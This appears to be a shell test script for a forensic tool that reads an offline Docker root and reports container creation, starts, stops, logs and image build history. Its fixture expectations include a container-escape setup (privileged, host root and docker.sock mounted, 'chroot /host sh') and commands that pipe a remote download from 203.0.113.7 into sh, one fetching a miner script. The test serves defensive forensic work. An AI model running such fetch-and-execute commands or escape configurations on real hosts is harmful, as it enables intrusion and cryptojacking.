#!/bin/sh
# An offline Docker root (tests/data/docker/root): container configurations
# with their hostconfig.json (also broken or missing), Windows and Docker 1.x
# containers, a container log, an image's build history.
. "$top_srcdir/tests/lib.sh"
command -v jq >/dev/null || skip "jq not installed"
R=$top_srcdir/tests/data/docker/root
C1=b5c1fb2efc6d6b4674c2fdcc48ce01b43a3b7c03763c0c3355de0099ee0f8c73
C2=4b5e57f6eb2f42b9039b3d1e13929295f231749c510cbe341cd68036d9af97e2
C3=eaef1a91f83d596b9db746615ac853c3481bb448937bc683f1b2837235e042a5
CW=823a3180dad3c9c3c4dea43ab2baf9f04bac9c3a7711745ff5f702551496d735
CL=c49fea7425fa7f8699897a97c159c6690267d9003bb78c53fafa8fc15c325d84

(cd "$R" && find . -exec ls -ld --time-style=+%s {} + | awk '{print $1, $5, $6, $7}' | sort) >"$TMP/before"
(cd "$R" && find . -type f -exec sha256sum {} + | sort) >>"$TMP/before"
"$BOXTRAIL" events -f jsonl --stats --assume-host dockhost "$R" >"$TMP/out" 2>"$TMP/err"
rc=$?
q() { jq -r "$1" "$TMP/out" | tr '\n' ' ' | sed 's/ $//'; }
ev() { jq -c "select(.fields.ContainerID==\"$1\" and .fields.Action==\"$2\")" "$TMP/out"; }
f() { printf '%s\n' "$1" | jq -r "$2"; }

check "exit status: partial (broken and missing hostconfig, broken log line)" 4 "$rc"
check "events" "17" "$(wc -l <"$TMP/out" | tr -d ' ')"
check "source, provider, host" "docker-root docker-root dockhost" "$(q 'select(.fields.Action=="container.create") | "\(.source) \(.provider) \(.host)"' | cut -d' ' -f1-3)"
grep -q 'total: 11 files read, 3 partial, 0 unreadable, 1 not evidence' "$TMP/err" && pass "file counts" || fail "file counts: $(grep total "$TMP/err")"

e=$(ev "$C1" container.create)
check "C1 create time" "2024-03-01T09:00:00.1234567Z 2024-03-01T09:00:00.123456789Z" "$(f "$e" '"\(.time) \(.fields.TimeOriginal)"')"
check "C1 identity" "evil alpine:3.18 sh -c chroot /host sh root /host" \
	"$(f "$e" '"\(.fields.ContainerName) \(.fields.Image) \(.fields.Command) \(.fields.User) \(.fields.WorkingDir)"')"
check "C1 privileged, namespaces" "true host host" "$(f "$e" '"\(.fields.Privileged) \(.fields.PidMode) \(.fields.NetworkMode)"')"
check "C1 mounts" '["/:/host","/var/run/docker.sock:/var/run/docker.sock:ro","cachevol:/data"]' "$(f "$e" '.fields.Mounts | tojson')"
check "C1 mount sources" '["/","/var/run/docker.sock","cachevol"]' "$(f "$e" '.fields.MountSource | tojson')"
check "C1 binds as given" '["/:/host","/var/run/docker.sock:/var/run/docker.sock:ro"]' "$(f "$e" '.fields.Binds | tojson')"
check "C1 caps, secopts, devices" '["SYS_ADMIN"] ["apparmor=unconfined","label=disable"] ["/dev/sda"]' \
	"$(f "$e" '"\(.fields.CapAdd | tojson) \(.fields.SecurityOpt | tojson) \(.fields.Devices | tojson)"')"
check "C1 ports, restart, address" '[":2222->22/tcp"] always ["172.17.0.2"]' \
	"$(f "$e" '"\(.fields.PortBindings | tojson) \(.fields.RestartPolicy) \(.fields.IPAddress | tojson)"')"
check "C1 log path" "/var/lib/docker/containers/$C1/$C1-json.log" "$(f "$e" '.fields.LogPath')"
e=$(ev "$C1" container.start)
check "C1 start" "2024-03-01T09:00:01.5000000Z true null" "$(f "$e" '"\(.time) \(.fields.Privileged) \(.fields.Pid)"')"
e=$(ev "$C1" container.stop)
check "C1 stop" "2024-03-01T09:30:00.0000000Z 137 null" "$(f "$e" '"\(.time) \(.fields.ExitCode) \(.fields.Privileged)"')"

check "C2 never started: create only" "container.create" "$(q "select(.fields.ContainerID==\"$C2\") | .fields.Action")"
check "C2 without host config facts" "null" "$(q "select(.fields.ContainerID==\"$C2\") | .fields.Privileged")"
grep -q "$C2/config.v2.json: warning: hostconfig.json beside it: truncated JSON" "$TMP/err" \
	&& pass "broken hostconfig warned" || fail "broken hostconfig warning"
grep -q "$C3/config.v2.json: warning: cannot open the hostconfig.json beside it" "$TMP/err" \
	&& pass "missing hostconfig warned" || fail "missing hostconfig warning"
check "C3 running: start with pid, no stop" "container.create container.start 4242" \
	"$(q "select(.fields.ContainerID==\"$C3\") | \"\(.fields.Action)\"") $(q "select(.fields.ContainerID==\"$C3\" and .fields.Action==\"container.start\") | .fields.Pid")"

e=$(ev "$CW" container.create)
check "Windows: isolation, gMSA" "hyperv file://webapp01.json nat" \
	"$(f "$e" '"\(.fields.Isolation) \(.fields.CredentialSpec) \(.fields.NetworkMode)"')"
check "Windows: pipe mount" '["C:\\secrets","\\\\.\\pipe\\docker_engine"]' "$(f "$e" '.fields.MountSource | tojson')"
check "Windows: command, user" 'C:\ServiceMonitor.exe w3svc ContainerAdministrator' "$(f "$e" '"\(.fields.Command) \(.fields.User)"')"

e=$(ev "$CL" container.create)
check "1.x config.json" "legacy_one ubuntu:14.04 /bin/bash -c curl http://203.0.113.7/x | sh" \
	"$(f "$e" '"\(.fields.ContainerName) \(.fields.Image) \(.fields.Command)"')"
check "1.x volumes and host config" '["/srv/data:/data:ro"] ["NET_ADMIN"] ["172.17.0.9"]' \
	"$(f "$e" '"\(.fields.Mounts | tojson) \(.fields.CapAdd | tojson) \(.fields.IPAddress | tojson)"')"
check "1.x start and stop" "3" "$(q "select(.fields.ContainerID==\"$CL\") | .line" | wc -w | tr -d ' ')"

check "container log: id from the directory" "2" "$(q "select(.fields.Action==\"container.output\" and .fields.ContainerID==\"$C1\") | .line" | wc -w | tr -d ' ')"
check "container log: stream, message, attrs" "stderr sh: can't access tty evil" \
	"$(q 'select(.fields.Action=="container.output" and .line==2) | "\(.fields.Stream) \(.fields.Message) \(.fields["Attributes.tag"])"')"
grep -q -- "-json.log: warning: line 3: " "$TMP/err" && pass "container log: broken line reported" || fail "container log warning"

check "image history" "4" "$(q 'select(.fields.Action=="image.layer") | .fields.LayerIndex' | wc -w | tr -d ' ')"
check "image layer: custom script" "RUN /bin/sh -c curl -fsSL http://203.0.113.7/miner.sh | sh # buildkit 2024-02-28T17:00:00.0000000Z" \
	"$(q 'select(.fields.Action=="image.layer" and .fields.LayerIndex=="1") | "\(.fields.CreatedBy) \(.time)"')"
check "image id from the digest file name" "sha256:6105d6cc76af400325e94d588ce511be5bfdbb73b437dc51eca43917d7a43e3d" \
	"$(q 'select(.fields.LayerIndex=="0") | .fields.ImageID')"

# hostconfig.json named alone: recognised, no events, no error
expect_rc "hostconfig.json named alone" 0 "$BOXTRAIL" events "$R/containers/$C1/hostconfig.json"
[ ! -s "$TMP/out" ] && pass "hostconfig.json alone yields nothing" || fail "hostconfig.json alone gave events"
mkdir -p "$TMP/lonely"
cp "$R/containers/$C1/hostconfig.json" "$TMP/lonely/"
expect_rc "orphan hostconfig.json" 0 "$BOXTRAIL" events "$TMP/lonely/hostconfig.json"
grep -q "without its config.v2.json" "$TMP/err" && pass "orphan hostconfig noted" || fail "orphan hostconfig note: $(cat "$TMP/err")"

# a configuration from standard input: no hostconfig to read, a note
"$BOXTRAIL" events -f jsonl - <"$R/containers/$C1/config.v2.json" >"$TMP/out" 2>"$TMP/err"
check "config from stdin: events" "3" "$(wc -l <"$TMP/out" | tr -d ' ')"
grep -q "no hostconfig.json to read" "$TMP/err" && pass "config from stdin: noted" || fail "config from stdin note"

# evidence is never modified: every file of the tree as before, nothing added
(cd "$R" && find . -exec ls -ld --time-style=+%s {} + | awk '{print $1, $5, $6, $7}' | sort) >"$TMP/after"
(cd "$R" && find . -type f -exec sha256sum {} + | sort) >>"$TMP/after"
cmp -s "$TMP/before" "$TMP/after" && pass "tree unchanged" || fail "tree changed: $(diff "$TMP/before" "$TMP/after" | head -3)"

finish
